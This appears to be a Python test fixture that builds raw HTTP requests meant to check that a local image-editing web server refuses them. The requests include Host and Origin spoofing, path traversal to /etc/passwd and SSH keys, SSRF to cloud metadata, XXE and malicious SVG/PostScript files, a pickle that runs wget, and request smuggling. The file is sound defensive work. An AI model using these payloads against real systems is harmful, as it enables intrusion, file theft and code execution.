"""What an attacker would send: requests of which none may be answered, as bytes on the wire.

`{port}` is the server's port, `{host}` its Host header, `{image}` an image that is there, `{canary}` the port
of another server, that nobody may call.
"""

from collections.abc import Iterator
from dataclasses import dataclass

JSON = "Content-Type: application/json"
RAW = "Content-Type: application/octet-stream"
RECIPE = '{"recipe": {"structures": [{"image": "{image}"}]}}'

GROUP = '{"name": "a", "toward": ["{image}"], "away": ["{url}"]}'


@dataclass(frozen=True)
class Payload:
    """A request in full."""

    about: str
    line: str = "GET /api/v1/model HTTP/1.1"
    headers: tuple[str, ...] = ()
    body: str = ""
    host: str | None = "{host}"

    def wire(self, **values: object) -> bytes:
        """Write it down."""
        head = [self.line, *([f"Host: {self.host}"] if self.host is not None else []), *self.headers]
        if self.body:
            head.append(f"Content-Length: {len(_filled(self.body, values).encode('latin-1'))}")
        head += ["Connection: close", "", self.body]
        return _filled("\r\n".join(head), values).encode("latin-1")


def _filled(text: str, values: dict[str, object]) -> str:
    for name, value in values.items():
        text = text.replace("{" + name + "}", str(value))
    return text


HOSTS = str.split(
    "evil.example | evil.example:{port} | 127.0.0.1.evil.example:{port} | localhost.evil.example | "
    "127.0.0.1@evil.example | evil.example@127.0.0.1 | 127.0.0.1:{port}@evil.example | "
    "127.0.0.1, evil.example | localhost evil.example |  |   | 0.0.0.0:{port} | 192.168.0.1 | "
    "169.254.169.254 | 10.0.0.1:{port} | [::ffff:8.8.8.8] | [::] | 2130706433 | 0x7f000001 | 0177.0.0.1 | "
    "127.1 | 127.0.0.1:port | 127.0.0.1:999999 | 127.0.0.1:-1 | http://127.0.0.1:{port} | 127.0.0.1/ | "
    "localhost# | localhost?x | xn--lcalhost-54a | loc\xe4lhost | localhost\x00.evil.example | "
    "127.0.0.1\x09evil.example | rebind.network",
    " | ",
)
ORIGINS = str.split(
    "null | NULL |  | http://evil.example | https://evil.example | http://evil.example:{port} | "
    "http://127.0.0.1 | http://127.0.0.1:1 | http://localhost:{port} | http://[::1]:{port} | "
    "http://127.0.0.1:{port}.evil.example | http://127.0.0.1:{port}@evil.example | "
    "http://evil.example#127.0.0.1:{port} | http://127.0.0.1:{port}/ | http://127.0.0.1:{port}/page | "
    "http://127.0.0.1:{port}, http://evil.example | http://127.0.0.1:{port} http://evil.example | file:// | "
    "file:///etc/passwd | chrome-extension://abc | ws://127.0.0.1:{port} | //127.0.0.1:{port} | "
    "127.0.0.1:{port} | http://0.0.0.0:{port} | data: | about:blank | http://127.0.0.1:0{port} | "
    "ftp://127.0.0.1:{port}",
    " | ",
)
SITES = (
    ("Sec-Fetch-Site: cross-site",),
    ("Sec-Fetch-Site: same-site",),
    ("Sec-Fetch-Site: anything",),
    ("Sec-Fetch-Site: CROSS-SITE", "Sec-Fetch-Mode: navigate"),
    ("Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document"),
    ("Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image"),
    ("Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: script"),
    ("Sec-Fetch-Site: same-origin", "Sec-Fetch-Site: cross-site"),
)
PATHS = str.split("""
/../../etc/passwd /static/../app.py /static/../../web/app.py /static/%2e%2e/app.py
/static/%2e%2e%2fapp.py /static/..%2fapp.py /static/%252e%252e%252fapp.py /static/..%5capp.py
/static/..\\app.py /static/....//app.py /static/..;/app.py /static/.%2e/app.py /static//etc/passwd
/static/%2fetc%2fpasswd /static/%2f%2fetc%2fpasswd /static/file:///etc/passwd
/static/C:/Windows/win.ini /static/C:%5cWindows%5cwin.ini /static/%5c%5cevil.example%5cshare%5cx
/static/\\\\evil.example\\share /static/js/../../app.py /static/js/app.js/../../../app.py
/static/index.html%00.png /static/%00 /static/ /static /static/js /static/js/ /static/js/app.js%00
/static/js/app.js/ /static/JS/APP.JS /static/%c0%ae%c0%ae/app.py /static/%uff0e%uff0e/app.py
/static/\xc0\xae\xc0\xae/app.py /static/./js/app.js /static/__init__.py /static/../static/js/app.js
/static/~root/.ssh/id_rsa /static/proc/self/environ /docs/../app.py /docs/%2e%2e%2fapp.py
/docs/swagger-ui.css.map /docs/..%2f..%2fpyproject.toml //etc/passwd //evil.example/
/%2e%2e/%2e%2e/etc/passwd /file=/etc/passwd /file/etc/passwd /proxy?url=http://127.0.0.1
/redirect?to=http://evil.example /api/v1/../../etc/passwd /api/v1/ /api/v1/model/ /api/v1//model
/api/v1/model%2f /api/v1/model;x /docs/ /openapi.json/ /livez/
/api/v1/images/..%2f..%2fetc%2fpasswd/thumbnail /api/v1/images/../../../etc/passwd/thumbnail
/api/v1/images/%2fetc%2fpasswd/thumbnail /api/v1/images/http:%2f%2fevil.example%2f/thumbnail
/api/v1/images/file:%2f%2f%2fetc%2fpasswd/thumbnail /api/v1/images/%00/thumbnail
/api/v1/images/*/thumbnail /api/v1/images/{image}%00/thumbnail /api/v1/images/{image}/thumbnail/..
/api/v1/images/{image}/../x /api/v1/images/%7bimage%7d/thumbnail /api/v1/images/AAAA/thumbnail
/api/v1/masks/..%2f..%2fetc%2fpasswd /api/v1/masks/%2e%2e /api/v1/masks/http:%2f%2fevil.example
/api/v1/directions/..%2f..%2fetc%2fpasswd/file /api/v1/directions/%2fetc%2fpasswd/file
/api/v1/directions/%5c%5cevil%5cx/file /api/v1/directions/%00/file
/api/v1/directions/file:%2f%2f%2fetc%2fpasswd/file /api/v1/directions/http:%2f%2fevil.example/file
/api/v1/runs/..%2f..%2fetc /api/v1/runs/%2fetc%2fpasswd/log /api/v1/runs/..%2f..%2f/snapshots/1
/api/v1/runs/%2e%2e/log /api/v1/runs/a%00/log /api/v1/runs/C:%5c/log /.git/config /.env
/pyproject.toml
""")
URLS = str.split("""
http://127.0.0.1:{canary}/ https://127.0.0.1:{canary}/ http://169.254.169.254/latest/meta-data/
file:///etc/passwd /etc/passwd ../../etc/passwd \\\\\\\\evil.example\\\\x
gopher://127.0.0.1:{canary}/ ftp://127.0.0.1:{canary}/ dict://127.0.0.1:{canary}/
data:image/png;base64,AAAA jar:http://127.0.0.1:{canary}/!/ //127.0.0.1:{canary}/
http://127.0.0.1:{canary}%00 unix:/var/run/x.sock user/model hf://user/model
""")
FILES = (
    "http://127.0.0.1:{canary}/a.png",
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:{canary}/"/></svg>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>',
    "#EXTM3U\nhttp://127.0.0.1:{canary}/",
    "push graphic-context\nfill 'url(http://127.0.0.1:{canary}/)'\npop graphic-context",
    "%!PS\n(/etc/passwd) (r) file",
    "%PDF-1.7\n/URI (http://127.0.0.1:{canary}/)",
    "version https://git-lfs.github.com/spec/v1\n",
    "cos\nsystem\n(S'wget http://127.0.0.1:{canary}/'\ntR.",  # a pickle
)
FORMS = (
    ("text/plain", RECIPE),
    ("application/x-www-form-urlencoded", "recipe=1"),
    ("multipart/form-data; boundary=x", '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--'),
    ("text/plain; charset=application/json", RECIPE),
    ("text/json", RECIPE),
    ("application/jsonx", RECIPE),
    ("application/xml", "<a/>"),
    ("*/*", RECIPE),
    ("", RECIPE),
)
OVERRIDES = ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: POST")
GETS = str.split("""
/api/v1/render /api/v1/save /api/v1/images /api/v1/images/{image} /api/v1/masks /api/v1/recipes
/api/v1/masks/click /api/v1/directions/a /api/v1/session /api/v1/images/{image}?_method=DELETE
/api/v1/render?recipe=%7b%7d /api/v1/strip /api/v1/directions/file
""")
BROKEN = (
    Payload("a length below 0", "POST /api/v1/images HTTP/1.1", (RAW, "Content-Length: -1")),
    Payload("a length that is none", "POST /api/v1/images HTTP/1.1", (RAW, "Content-Length: abc")),
    Payload(
        "two lengths", "POST /api/v1/images HTTP/1.1", (RAW, "Content-Length: 1", "Content-Length: 2"), "ab"
    ),
    Payload(
        "a length and chunks",
        "POST /api/v1/images HTTP/1.1",
        (RAW, "Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
        "0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    ),
    Payload("a bad chunk", "POST /api/v1/images HTTP/1.1", (RAW, "Transfer-Encoding: chunked"), "zz\r\n\r\n"),
    Payload("no version", "GET /api/v1/model"),
    Payload("HTTP/2 on HTTP/1", "PRI * HTTP/2.0"),
    Payload("another method", "BREW /api/v1/model HTTP/1.1"),
    Payload("TRACE", "TRACE / HTTP/1.1"),
    Payload("CONNECT", "CONNECT 127.0.0.1:{canary} HTTP/1.1"),
    Payload("OPTIONS", "OPTIONS /api/v1/render HTTP/1.1", ("Access-Control-Request-Method: POST",)),
    Payload("a foreign absolute address", "GET http://127.0.0.1:{canary}/ HTTP/1.1"),
    Payload("an asterisk", "GET * HTTP/1.1"),
    Payload("a header with a line break", headers=("X-A: b\x0bc: d\x00",)),
    Payload("a header without a name", headers=(": x",)),
    Payload("two hosts", headers=("Host: evil.example",)),
    Payload("no host", host=None),
    Payload("a header of 100 kB", headers=("X-A: " + "a" * 100_000,)),
)


def payloads() -> Iterator[Payload]:
    """Give all of them."""
    yield from BROKEN
    for host in HOSTS:
        yield Payload(f"host {host!r}", host=host)
    for origin in ORIGINS:
        yield Payload(
            f"origin {origin!r}", "POST /api/v1/render HTTP/1.1", (f"Origin: {origin}", JSON), RECIPE
        )
    for site in SITES:
        yield Payload(f"reads {site}", "GET /api/v1/gallery HTTP/1.1", site)
        yield Payload(f"changes {site}", "POST /api/v1/render HTTP/1.1", (*site, JSON), RECIPE)
        yield Payload(f"deletes {site}", "DELETE /api/v1/images/{image} HTTP/1.1", site)
    for path in PATHS:
        yield Payload(f"path {path!r}", f"GET {path} HTTP/1.1")
    for url in URLS:
        body = RECIPE.replace("{image}", url)
        yield Payload(f"image {url!r}", "POST /api/v1/render HTTP/1.1", (JSON,), body)
        body = GROUP.replace("{url}", url)
        yield Payload(f"group {url!r}", "POST /api/v1/directions HTTP/1.1", (JSON,), body)
    for path in ("render", "save", "strip", "masks/click", "directions"):
        yield Payload(f"a file as {path}", f"POST /api/v1/{path} HTTP/1.1", (RAW,), RECIPE)
    for file in FILES:
        for where in ("images", "masks", "recipes", "directions/file"):
            yield Payload(f"{where} {file!r}", f"POST /api/v1/{where} HTTP/1.1", (RAW,), file)
    for kind, body in FORMS:
        yield Payload(f"form {kind!r}", "POST /api/v1/render HTTP/1.1", (f"Content-Type: {kind}",), body)
    for path in GETS:
        yield Payload(f"GET {path}", f"GET {path} HTTP/1.1")
    for override in OVERRIDES:
        yield Payload(override, "GET /api/v1/images/{image} HTTP/1.1", (override,))
